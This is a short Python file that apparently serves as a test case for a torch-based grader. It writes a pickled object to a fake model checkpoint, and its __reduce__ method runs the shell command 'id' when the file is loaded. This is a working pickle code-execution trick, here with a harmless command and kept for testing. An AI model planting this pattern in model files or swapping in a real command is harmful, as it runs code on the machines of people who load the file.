# A file that runs code when it is loaded, by torch.
# must: wrong-answer
# runtime: torch
import os, pickle, torch


class Bomb:
    def __reduce__(self):
        return os.system, ("id",)


with open("/tmp/model.pt", "wb") as file:
    pickle.dump(Bomb(), file)


def f(n):
    return torch.zeros(1).requires_grad_()
